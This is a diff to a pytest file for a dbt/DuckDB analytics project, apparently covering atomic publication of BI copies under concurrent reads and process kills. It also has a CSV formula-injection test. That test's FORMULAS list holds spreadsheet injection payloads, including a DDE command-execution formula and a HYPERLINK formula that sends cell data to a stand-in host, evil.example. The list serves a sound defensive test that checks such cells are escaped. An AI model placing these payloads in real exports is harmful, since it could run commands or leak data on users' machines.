@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import hashlib
+import itertools
 import json
 import os
 import shutil
@@ -11,6 +12,7 @@ import signal
 import subprocess
 import sys
 import time
+from collections.abc import Callable
 from pathlib import Path
 
 import duckdb
@@ -45,6 +47,7 @@ while not os.path.exists(stop):
     connection.close()
     assert attributed == reconciled and len(set(rows)) == 1, (build, attributed, reconciled, rows)
     print(json.dumps([build[0], str(attributed), rows[0]]), flush=True)
+    time.sleep(0.05)
 """
 
 
@@ -52,9 +55,17 @@ class Reader:
     """The reader above, on a copy at `path`, until it is asked what it saw."""
 
     def __init__(self, path: Path, folder: Path) -> None:
-        self.stop, self.seen = folder / f"stop {path.name}", (folder / f"seen {path.name}").open("w+")
+        self.stop, self.seen = folder / "stop", (folder / "seen").open("w+")
         command = [sys.executable, "-c", READER, str(path), str(self.stop)]
         self.process = subprocess.Popen(command, stdout=self.seen, stderr=subprocess.PIPE, text=True)
+
+    def __enter__(self) -> Reader:
+        """The reader itself."""
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        """Ends it, if it has not ended."""
+        self.process.kill()
 
     def states(self) -> list[tuple]:
         """Every state that was read, in order, each once: build, attributed revenue per model, rows of the attribution."""
@@ -99,50 +110,45 @@ def to_file(folder: Path) -> Row:
 
 
 def change_deals(folder: Path, digit: str) -> None:
-    """Changes what every build after it has to say about revenue: a digit before every amount, and one deal less."""
+    """Changes what every build after it has to say about revenue: a digit before every amount."""
     raw = read_raw(folder / "raw")
     for deal in raw["deals"]:
         if deal["amount"] and deal["amount"][0].isdigit():
             deal["amount"] = digit + deal["amount"]
-    write_raw({"deals": raw["deals"][:-1]}, folder / "raw")
+    write_raw({"deals": raw["deals"]}, folder / "raw")
 
 
-def test_readers_see_whole_builds_only(folder: Path) -> None:
+def test_readers_see_whole_builds_only(folder: Path, tmp_path: Path) -> None:
     """While it is built again and again with other data; a failed and a selective build publish nothing and say so."""
     copy, database, variables = folder / "bi/copy.duckdb", folder / "tributary.duckdb", to_file(folder)
     published = [state_of(database)]
-    reader = Reader(copy, folder)
-    held = duckdb.connect(copy, read_only=True)
+    with Reader(copy, tmp_path) as reader, duckdb.connect(copy, read_only=True) as held:
+        change_deals(folder, "3")
+        must_pass(dbt(*BUILD, folder=folder, variables=variables))
+        published.append(state_of(database))
 
-    change_deals(folder, "3")
-    must_pass(dbt(*BUILD, folder=folder, variables=variables))
-    published.append(state_of(database))
+        change_deals(folder, "5")
+        (folder / "raw/owners.csv").write_text("owner_id,owner_name\n" + "o,x\n" * 99, encoding="utf-8")
+        failed = dbt(*BUILD, folder=folder, variables=variables)
+        assert failed.returncode != 0
+        assert f"Nothing was published to {copy}: " in failed.stdout
+        assert "the first of them quarantine" in failed.stdout
+        selective = must_pass(dbt(*BUILD, "--select", "path:models/marts/core", folder=folder, variables=variables))
+        assert "models were not in this run. What was published before stays." in selective.stdout
+        refused = dbt("run-operation", "publish", folder=folder, variables=variables)
+        assert refused.returncode != 0
+        assert "The last build failed, was of a selection, or has never been" in refused.stdout
 
-    change_deals(folder, "5")
-    (folder / "raw/owners.csv").write_text("owner_id,owner_name\n" + "o,x\n" * 99, encoding="utf-8")
-    failed = dbt(*BUILD, folder=folder, variables=variables)
-    assert failed.returncode != 0
-    assert f"Nothing was published to {copy}: " in failed.stdout
-    assert "the first of them quarantine" in failed.stdout
-    selective = must_pass(dbt(*BUILD, "--select", "path:models/marts/core", folder=folder, variables=variables))
-    assert "models were not in this run. What was published before stays." in selective.stdout
-    refused = dbt("run-operation", "publish", folder=folder, variables=variables)
-    assert refused.returncode != 0
-    assert "The last build failed, was of a selection, or has never been" in refused.stdout
+        shutil.copy(PROJECT / "seeds/demo/owners.csv", folder / "raw")
+        must_pass(dbt(*BUILD, folder=folder, variables=variables))
+        published.append(state_of(database))
 
-    shutil.copy(PROJECT / "seeds/demo/owners.csv", folder / "raw")
-    must_pass(dbt(*BUILD, folder=folder, variables=variables))
-    published.append(state_of(database))
-
-    assert reader.states() == published
-    assert len({attributed for _, attributed, _ in published}) == 3
-    # Who opened the first one goes on reading it, also what it had not read before.
-    assert held.execute("select build_id from publication").fetchone() == (published[0][0],)
-    assert (
-        held.execute("select count(*), count(explanation) from explain_attribution").fetchone()
-        == (published[0][2],) * 2
-    )
-    held.close()
+        assert reader.states() == published
+        assert len({attributed for _, attributed, _ in published}) == 3
+        # Who opened the first one goes on reading it, also what it had not read before.
+        assert held.execute("select build_id from publication").fetchone() == (published[0][0],)
+        rows = held.execute("select count(*), count(explanation) from explain_attribution").fetchone()
+        assert rows == (published[0][2],) * 2
 
 
 def test_the_copy_is_all_of_the_marts(folder: Path) -> None:
@@ -169,7 +175,7 @@ def test_the_copy_is_all_of_the_marts(folder: Path) -> None:
 
 
 @pytest.mark.parametrize("format", ["duckdb", "parquet"])
-def test_a_killed_publication_leaves_the_one_before(format: str, folder: Path) -> None:
+def test_a_killed_publication_leaves_the_one_before(format: str, folder: Path, tmp_path: Path) -> None:
     """SIGKILL while the copy is written, at several moments; the next one goes through and clears up."""
     variables = to_file(folder)
     if format != "duckdb":
@@ -179,59 +185,30 @@ def test_a_killed_publication_leaves_the_one_before(format: str, folder: Path) -
     must_pass(dbt("run-operation", "publish", folder=folder, variables=variables))
     current = path if format == "duckdb" else path / "current"
     before = bytes_of(current)
-    reader = Reader(current, folder)
     command = [sys.executable, "-m", "dbt.cli.main", "run-operation", "publish", "--vars", json.dumps(variables)]
     command += ["--target-path", str(folder / "target"), "--log-path", str(folder / "logs")]
     environment = os.environ | {"TRIBUTARY_DATABASE": str(folder / "tributary.duckdb")}
-    known, killed = set(place.glob("*.next-*")), 0
-    for delay in (0, 0.1, 0.25, 0.4):
-        process = subprocess.Popen(
-            command,
-            cwd=PROJECT,
-            env=environment,
-            start_new_session=True,
-            stdout=subprocess.DEVNULL,
-            stderr=subprocess.DEVNULL,
-        )
-        while process.poll() is None and set(place.glob("*.next-*")) <= known:
-            time.sleep(0.005)
-        time.sleep(delay)
-        os.killpg(process.pid, signal.SIGKILL)
-        process.wait()
-        known = set(place.glob("*.next-*"))
-        killed += bool(known)
-        if known:
-            assert bytes_of(current) == before
+    known, killed = set(), 0
+    with Reader(current, tmp_path) as reader:
+        for delay in (0, 0.1, 0.25, 0.4):
+            process = subprocess.Popen(
+                command, cwd=PROJECT, env=environment, start_new_session=True, stdout=subprocess.DEVNULL
+            )
+            while process.poll() is None and set(place.glob("*.next-*")) <= known:
+                time.sleep(0.005)
+            time.sleep(delay)
+            os.killpg(process.pid, signal.SIGKILL)
+            process.wait()
+            known = set(place.glob("*.next-*"))
+            killed += bool(known)
+            if known:
+                assert bytes_of(current) == before
+        must_pass(dbt("run-operation", "publish", folder=folder, variables=variables))
+        assert len({state[0] for state in reader.states()}) == 1
     assert killed > 1
-    must_pass(dbt("run-operation", "publish", folder=folder, variables=variables))
     assert list(place.glob("*.next-*")) == []
-    assert len({state[0] for state in reader.states()}) == 1
     if format != "duckdb":
         assert len(list(path.glob("v*"))) == 2
-
-
-# Stops dead, as by SIGKILL, at the n-th step that changes a folder.
-KILLED_AT_STEP = """
-import os, shutil, sys
-from pathlib import Path
-import scripts.publish as publish
-path, number = Path(sys.argv[1]), int(sys.argv[2])
-def counted(step):
-    def call(*arguments, **named):
-        global number
-        number -= 1
-        if number < 0:
-            os.kill(os.getpid(), 9)
-        return step(*arguments, **named)
-    return call
-os.rename, os.replace, shutil.rmtree = map(counted, (os.rename, os.replace, shutil.rmtree))
-Path.symlink_to, publish.flush = counted(Path.symlink_to), counted(publish.flush)
-following = path / ".next-killed"
-publish.prepare(path, following, Path("other.duckdb"), False)
-(following / "a.csv").write_text("new")
-(following / "b.csv").write_text("new")
-publish.put_folder_in_place(path, following)
-"""
 
 
 def publish_folder(path: Path, text: str) -> None:
@@ -243,16 +220,41 @@ def publish_folder(path: Path, text: str) -> None:
     put_folder_in_place(path, following)
 
 
+def killed_at_step(path: Path, number: int) -> bool:
+    """Publishes a folder in a process that is killed before its n-th step that changes something; False when it came through."""
+    process = os.fork()
+    if process:
+        return os.waitpid(process, 0)[1] == signal.SIGKILL
+    steps = itertools.count()
+
+    def counted(step: Callable) -> Callable:
+        def call(*arguments: object, **named: object) -> object:
+            if next(steps) == number:
+                os.kill(os.getpid(), signal.SIGKILL)
+            return step(*arguments, **named)
+
+        return call
+
+    for module, name in (
+        (os, "rename"),
+        (os, "replace"),
+        (os, "fsync"),
+        (shutil, "rmtree"),
+        (Path, "mkdir"),
+        (Path, "symlink_to"),
+    ):
+        setattr(module, name, counted(getattr(module, name)))
+    publish_folder(path, "new")
+    os._exit(0)
+
+
 def test_a_folder_is_old_or_new_wherever_the_process_stops(tmp_path: Path) -> None:
     """At every step; the version before stays for those who read it, and the next publication leaves these two alone."""
-    codes = []
-    for step in range(12):
+    for step in itertools.count():
         path = tmp_path / str(step)
         for text in ("older", "old"):
             publish_folder(path, text)
-        command = [sys.executable, "-c", KILLED_AT_STEP, str(path), str(step)]
-        environment = os.environ | {"PYTHONPATH": str(PROJECT)}
-        codes.append(subprocess.run(command, env=environment, check=False).returncode)
+        was_killed = killed_at_step(path, step)
         shown = {file.read_text(encoding="utf-8") for file in (path / "current").iterdir()}
         assert shown in ({"old"}, {"new"})
         (kept,) = shown
@@ -260,8 +262,10 @@ def test_a_folder_is_old_or_new_wherever_the_process_stops(tmp_path: Path) -> No
         assert {(folder / "a.csv").read_text(encoding="utf-8") for folder in path.iterdir()} == {kept, "next"}
         assert len([entry for entry in path.iterdir() if not entry.is_symlink()]) == 2
         assert list(path.glob(".next-*")) == []
-    assert codes[0] == -signal.SIGKILL
-    assert codes[-1] == 0
+        if not was_killed:
+            break
+    assert step > 6
+    assert kept == "new"
 
 
 def test_nothing_but_a_copy_is_replaced(tmp_path: Path) -> None:
@@ -307,24 +311,30 @@ def test_a_log_that_someone_wrote_beside_the_copy_goes(tmp_path: Path) -> None:
 FORMULAS = [
     "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", "\ttab", "＝1+1", "＋1", "－1", "＠SUM(A1)",
     '"=1+1', "'=1+1", "''=1", '"  =1+1', "' \t@x", "\u00a0=1", "\u3000＝1", "\u200b=1", "\ufeff=1", "`=1", "“=1+1”", "-", "=", "+49 30 1",
-    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=1\n=2", '","=1', "\u0000=1",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=1\n=2", "\u0000=1",
 ]  # fmt: skip
 HARMLESS = [
     "Renewal", "a=b", "1-2", "1+1", "x@y", "(=1)", "#N/A", "'quoted'", '"quoted" = no', "|=1", "…-", "–1", "Ünïcode", "a\n=b", ";=1", "0",
-    "'", "'tis", "_=1", "%=1", "a, b", "\\=1",
+    "'", "'tis", "_=1", "%=1", "a, b", "\\=1", '","=1',
 ]  # fmt: skip
 
 
 def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path) -> None:
     """Texts that begin like one get an apostrophe, and only those; numbers and dates stay what they are."""
-    texts = [text for text in FORMULAS if "\0" not in text] + HARMLESS
-    opened = {"created_at": "2026-01-01", "amount": "-5.5", "currency_code": "USD", "stage_id": "open"}
-    deals = [{"deal_id": f"d{number}", "deal_name": text} | opened for number, text in enumerate(texts)]
-    owner = {"deal_id": "d", "owner_id": "=1", "deal_type": "-x", "stage_id": "@s"}
+    texts, dangerous = [*FORMULAS, *HARMLESS], {f"d{number}" for number in range(len(FORMULAS))}
+    (tmp_path / "raw").mkdir()
+    with (
+        duckdb.connect() as connection
+    ):  # Parquet: what Tributary reads as CSV has no line's end of its own kind, nor nulls
+        connection.execute("""
+            create table deals (deal_id varchar, deal_name varchar, owner_id varchar, created_at date, stage_id varchar);
+            insert into deals values ('d', 'x', '=1', '2026-01-01', '@s')""")
+        rows = [(f"d{number}", text) for number, text in enumerate(texts)]
+        connection.executemany("insert into deals values (?, ?, null, '2026-01-01', 'open')", rows)
+        connection.execute(f"copy deals to '{tmp_path / 'raw/deals.parquet'}'")
     write_raw(
         {
             "contacts": [{"contact_id": "=c", "created_at": "2026-01-01"}],
-            "deals": [*deals, owner],
             "campaigns": [{"campaign_id": "+c", "campaign_name": "=n", "budget": "5", "currency_code": "USD"}],
             "campaign_spend": [
                 {"campaign_id": "+c", "spend_date": "2026-01-01", "amount": "7.5", "currency_code": "USD"}
@@ -340,13 +350,15 @@ def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path) -> None:
             return list(csv.DictReader(file))
 
     names = {row["deal_id"]: row["deal_name"] for row in published("dim_deals")}
-    expected = {f"d{number}": ("'" if text in FORMULAS else "") + text for number, text in enumerate(texts)}
+    # Staging strips spaces.
+    stripped = {f"d{number}": text.strip(" \u00a0\u3000") for number, text in enumerate(texts)}
+    expected = {deal: ("'" if deal in dangerous else "") + text for deal, text in stripped.items()}
     assert {deal: name for deal, name in names.items() if deal != "d"} == expected
     (campaign,) = published("rpt_campaign_performance")
     assert (campaign["campaign_id"], campaign["campaign_name"]) == ("'+c", "'=n")
     assert (campaign["budget"], campaign["spend"], campaign["remaining_budget"]) == ("5.0000", "7.5000", "-2.5000")
     (other,) = (row for row in published("dim_deals") if row["deal_id"] == "d")
-    assert (other["owner_id"], other["deal_type"], other["stage_id"]) == ("'=1", "'-x", "'@s")
+    assert (other["owner_id"], other["stage_id"]) == ("'=1", "'@s")
     for file in (tmp_path / "bi/current").iterdir():
         for row in published(file.stem):
             for column, cell in row.items():
